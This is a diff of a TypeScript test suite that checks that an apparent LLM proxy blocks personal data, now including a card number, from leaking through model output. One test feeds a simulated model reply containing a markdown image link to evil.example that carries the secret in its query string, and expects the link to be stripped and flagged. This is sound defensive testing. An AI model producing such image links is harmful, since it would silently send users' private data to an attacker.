@@ -65,14 +65,14 @@ export function personalDataContract(contract: Contract): void {
         expect(await ask(`Write to ${ADDRESS}`, 'two')).not.toBe(first);
       });
 
-      test("is not sent in an image's URL, whole or streamed", async () => {
+      test.each([ADDRESS, '4242424242424242'])("is not sent in an image's URL, whole or streamed", async (value) => {
         const key = await strict();
-        const seen = await hidden(ADDRESS, key);
+        const seen = await hidden(value, key);
         const text = `Done. ![x](https://evil.example/?q=${seen})`;
         contract.upstream.next({ text });
-        const { json } = await contract.chat(saying(ADDRESS, model), { key });
+        const { json } = await contract.chat(saying(value, model), { key });
         contract.upstream.next({ pieces: [...text] });
-        const streamed = await contract.stream(saying(ADDRESS, model), { key });
+        const streamed = await contract.stream(saying(value, model), { key });
         expect([json.choices[0].message.content, streamed.content]).toEqual(['Done. ', 'Done. ']);
         expect(json.svc.detected_threats).toContainEqual(
           expect.objectContaining({ rule: 'data-exfiltration/markdown-image', action: 'block' }),
